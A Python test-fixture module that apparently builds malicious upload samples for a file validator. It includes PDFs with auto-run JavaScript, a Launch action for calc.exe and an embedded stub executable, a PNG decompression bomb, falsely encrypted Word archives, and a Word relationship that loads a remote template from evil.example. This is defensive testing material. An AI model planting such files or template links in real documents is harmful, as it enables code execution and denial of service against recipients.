"""Files of every kind a person, honest or not, might upload."""

import io
import struct
import zipfile
import zlib
from typing import Any
from xml.sax.saxutils import escape

import pikepdf
from PIL import Image

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf(*, pages: int = 1, password: str = "", owner_only: bool = False) -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        document.add_blank_page()
    encryption = pikepdf.Encryption(owner="o", user="" if owner_only else password) if password or owner_only else False
    document.save(out, encryption=encryption)
    return out.getvalue()


def pdf_with(name: str) -> bytes:
    """A PDF that would do something by itself, or carries more than pages."""
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    root, page = document.Root, document.pages[0]
    if name == "script at opening":
        root.OpenAction = script
    elif name == "script in names":
        root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    elif name == "script of a page":
        page.obj.AA = pikepdf.Dictionary(O=script)
    elif name == "program in a link":
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
        page.obj.Annots = document.make_indirect(pikepdf.Array([link]))
    elif name == "dynamic form":
        root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))
    elif name == "film":
        film = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
        page.obj.Annots = pikepdf.Array([document.make_indirect(film)])
    elif name == "file":
        document.attachments["run.exe"] = PROGRAM
    elif name == "goes to a page":
        root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
    document.save(out)
    return out.getvalue()


def png(*, width: int = 8, height: int = 8, mode: str = "RGB") -> bytes:
    return _picture("PNG", Image.new(mode, (width, height)))


def jpg(*, width: int = 8, height: int = 8, exif: Image.Exif | None = None, colour: str = "white") -> bytes:
    return _picture("JPEG", Image.new("RGB", (width, height), colour), **({"exif": exif} if exif else {}))


def _picture(kind: str, picture: Image.Image, **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def png_bomb(*, side: int = 30_000) -> bytes:
    """A few kilobytes that claim, and would unpack to, a picture of that many dots each way."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (side // 8 + 1) * 100)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def archive(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries.items():
            packed.writestr(name, content)
    return out.getvalue()


def docx(*, types: str = DOCX_MAIN, extra: dict[str, bytes] | None = None, without: str = "") -> bytes:
    entries = {
        "[Content_Types].xml": f'<Types><Override PartName="/word" ContentType="{types}"/></Types>'.encode(),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<?xml version='1.0'?><w:document/>",
        **(extra or {}),
    }
    entries.pop(without, None)
    return archive(entries)


_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(*paragraphs: str, link: str = "", pages: int = 0) -> bytes:
    """A Word file that Word would open: these paragraphs, the last one a link."""
    runs = "".join(f"<w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p>" for text in paragraphs)
    linked = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>' if link else ""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    packages = "http://schemas.openxmlformats.org/package/2006"
    entries = {
        "[Content_Types].xml": f'<Types xmlns="{packages}/content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{DOCX_MAIN}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{packages}/relationships"><Relationship Id="rId1" '
        f'Type="{relations}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{packages}/relationships"><Relationship Id="rId9" '
        f'Type="{relations}/hyperlink" Target="{escape(link)}" TargetMode="External"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{_WORD}" xmlns:r="{relations}">'
        f"<w:body>{runs}{linked}</w:body></w:document>",
        "docProps/app.xml": f"<Properties><Pages>{pages}</Pages></Properties>",
    }
    return archive({name: content.encode() for name, content in entries.items()})


def locked_archive() -> bytes:
    """A Word file whose entries claim to be encrypted."""
    content = bytearray(docx())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + flags] |= 1
            place = content.find(signature, place + 4)
    return bytes(content)


PROGRAM = b"MZ\x90\x00\x03" + b"\0" * 500
TEMPLATE_ELSEWHERE = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
